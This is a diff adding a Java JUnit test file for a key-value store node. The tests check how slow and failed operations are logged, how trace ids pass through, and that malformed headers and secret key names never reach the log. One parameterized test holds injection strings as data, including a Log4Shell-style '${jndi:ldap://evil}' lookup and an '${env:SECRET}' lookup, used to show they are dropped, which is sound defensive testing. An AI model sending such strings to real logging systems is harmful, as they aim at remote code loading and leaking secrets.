@@ -1,0 +1,199 @@
+package dev.quorate.node.api;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import ch.qos.logback.classic.Logger;
+import ch.qos.logback.classic.spi.ILoggingEvent;
+import ch.qos.logback.core.read.ListAppender;
+import dev.quorate.node.coordinator.Explanation;
+import dev.quorate.node.coordinator.Explanation.Purpose;
+import dev.quorate.node.coordinator.Explanation.Reply;
+import dev.quorate.node.coordinator.Explanation.Result;
+import dev.quorate.node.coordinator.Explanation.Round;
+import dev.quorate.node.coordinator.Outcome;
+import dev.quorate.node.coordinator.Outcome.QuorumFailed;
+import dev.quorate.node.http.RawClient.Answer;
+import dev.quorate.node.message.ReplicaAnswer.Failure;
+import dev.quorate.router.token.Token;
+import dev.quorate.storage.Timestamp;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.slf4j.LoggerFactory;
+
+/** What is logged of operations that take long or fail, and what of a client never is. */
+final class OperationLogTest extends ClientOfAnEdge {
+
+    private static final String ID = "4bf92f3577b34da6a3ce929d0e0e4736";
+    private static final String GIVEN = "traceparent: 00-" + ID + "-00f067aa0ba902b7-01\r\n";
+    private static final Timestamp VERSION = Timestamp.of(1_767_225_600_000L, 7, 2);
+
+    private final Logger logger = (Logger) LoggerFactory.getLogger(OperationLog.NAME);
+    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
+
+    @BeforeEach
+    void listen() {
+        lines.start();
+        logger.addAppender(lines);
+        logger.setAdditive(false);
+    }
+
+    @AfterEach
+    void leave() {
+        logger.detachAppender(lines);
+        logger.setAdditive(true);
+    }
+
+    /** The fields of the lines so far, each line as {@code name=value ...}. */
+    private List<String> logged() {
+        return lines.list.stream()
+                .map(
+                        event ->
+                                event.getFormattedMessage()
+                                        + event.getKeyValuePairs().stream()
+                                                .map(pair -> " " + pair.key + "=" + pair.value)
+                                                .collect(Collectors.joining()))
+                .toList();
+    }
+
+    private static Explanation explanation() {
+        return new Explanation(
+                List.of("2 of 3 have \"stored\" it"),
+                List.of(
+                        new Round(
+                                Purpose.WRITE,
+                                VERSION,
+                                List.of(
+                                        new Reply("n1", new Result.Stored(VERSION), 1_250),
+                                        new Reply(
+                                                "n2", new Result.Stored(VERSION), 811_900, 640_000),
+                                        new Reply(
+                                                "n3",
+                                                new Result.Failed(Failure.TIMEOUT, "a\nb\u0007"),
+                                                1_000_007)))));
+    }
+
+    private void takesMillis(long millis) {
+        edge.operations.before = () -> edge.advance(millis);
+    }
+
+    @Test
+    void aQuickOperationIsNotLogged() throws IOException {
+        takesMillis(499);
+        edge.operations.explanation = explanation();
+        assertThat(put("a", "b").status()).isEqualTo(201);
+        assertThat(ask("GET", "/v0/entity?id=a").status()).isEqualTo(200);
+        assertThat(logged()).isEmpty();
+    }
+
+    @Test
+    void aSlowOneIsLoggedWithItsExplanation() throws IOException {
+        takesMillis(500);
+        edge.operations.explanation = explanation();
+        Answer answer = ask("PUT", "/v0/entity?id=secret-name&replicas=2/3", GIVEN, "value");
+        assertThat(answer.status()).isEqualTo(201);
+        assertThat(answer.headers()).doesNotContainKeys("x-quorate-explain", "x-quorate-trace");
+        assertThat(logged())
+                .containsExactly(
+                        "An operation took long op=put status=201 millis=500 replicas=2/3 token="
+                                + Token.ofKey("secret-name".getBytes(StandardCharsets.US_ASCII))
+                                + " bytes=5 trace="
+                                + ID
+                                + " explanation=2 of 3 have 'stored' it"
+                                + " | n1; answer=stored; version="
+                                + VERSION
+                                + "; millis=1.250 | n2; answer=stored; version="
+                                + VERSION
+                                + "; millis=811.900; queued=640.000"
+                                + " | n3; answer=failed; reason=timeout; detail=a?b?;"
+                                + " millis=1000.007");
+        assertThat(edge.slow).containsExactly("PUT true");
+    }
+
+    @Test
+    void theTraceReachesTheReplicasAndTheExplanation() throws IOException {
+        edge.operations.explanation = explanation();
+        assertThat(ask("GET", "/v0/entity?id=a&explain=1", GIVEN, "").header("x-quorate-trace"))
+                .isEqualTo(ID);
+        assertThat(edge.operations.traces).containsExactly(ID);
+        String made = ask("GET", "/v0/entity?id=a&explain=1").header("x-quorate-trace");
+        assertThat(made).matches("[0-9a-f]{32}");
+        assertThat(edge.operations.traces).containsExactly(ID, made);
+        ask("GET", "/v0/entity?id=a");
+        assertThat(edge.operations.traces).containsExactly(ID, made, "none");
+    }
+
+    @Test
+    void aFailureIsLoggedUnderTheIdThatItsAnswerHas() throws IOException {
+        edge.operations.forced = new QuorumFailed(VERSION, List.of(), List.of(), explanation());
+        Answer answer = put("a", "b");
+        assertThat(answer.status()).isEqualTo(504);
+        String id = answer.text().replaceAll("(?s).*\"trace\":\"([0-9a-f]{32})\".*", "$1");
+        assertThat(logged()).hasSize(1);
+        assertThat(logged().getFirst())
+                .startsWith("An operation failed op=put status=504 millis=0")
+                .contains("trace=" + id + " ", "reason=timeout");
+        assertThat(ask("PUT", "/v0/entity?id=a", GIVEN, "b").text())
+                .contains("\"trace\":\"" + ID + "\"");
+        edge.operations.forced = new Outcome.Undecided(VERSION, List.of());
+        assertThat(ask("PUT", "/v0/entity?id=a", GIVEN + "If-None-Match: *\r\n", "b").text())
+                .contains("\"trace\":\"" + ID + "\"");
+    }
+
+    /** Bytes that the parser of HTTP lets through in a header. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "00-" + ID + "-00f067aa0ba902b7-01\t",
+                "00-" + ID + "-00f067aa0ba902b7-01, 00-" + ID + "-00f067aa0ba902b7-01",
+                "00-" + ID + "-00f067aa0ba902b7-01-${jndi:ldap://evil}",
+                "\u00e9vil\u0085\u009b31m",
+                "x${env:SECRET} %n%msg",
+                ""
+            })
+    void nothingOfAMalformedOneIsKept(String text) throws IOException {
+        takesMillis(500);
+        edge.operations.explanation = explanation();
+        Answer answer = ask("PUT", "/v0/entity?id=a", "traceparent: " + text + "\r\n", "b");
+        assertThat(answer.status()).isEqualTo(201);
+        boolean isTrimmed = text.endsWith("\t");
+        assertThat(edge.operations.traces).containsExactly(isTrimmed ? ID : "none");
+        assertThat(logged()).hasSize(1);
+        if (!isTrimmed) {
+            assertThat(logged().getFirst()).doesNotContain("trace=", "evil", "env", "\u00e9");
+        }
+    }
+
+    @Test
+    void twoOfThemAreNone() throws IOException {
+        assertThat(ask("PUT", "/v0/entity?id=a", GIVEN + GIVEN, "b").status()).isEqualTo(201);
+        assertThat(edge.operations.traces).containsExactly("none");
+    }
+
+    @Test
+    void oneOfTenKilobytesIsIgnored() throws IOException {
+        String long_ = "traceparent: " + "00-".repeat(2_500) + "\r\n";
+        assertThat(ask("PUT", "/v0/entity?id=a", long_, "b").status()).isIn(201, 431);
+        assertThat(edge.operations.traces).isSubsetOf("none");
+    }
+
+    @Test
+    void linesAreFewHoweverManyAreSlow() throws IOException {
+        edge.operations.forced = new QuorumFailed(null, List.of(), List.of(), explanation());
+        for (int i = 0; i < 25; i++) {
+            ask("GET", "/v0/entity?id=a");
+        }
+        assertThat(logged()).hasSize(OperationLog.LINES_PER_SECOND);
+        assertThat(edge.slow).hasSize(25).contains("GET true", "GET false");
+        edge.advance(1_000);
+        ask("GET", "/v0/entity?id=a");
+        assertThat(logged()).hasSize(OperationLog.LINES_PER_SECOND + 1);
+        assertThat(logged().getLast()).contains(" omitted=15 ");
+    }
+}
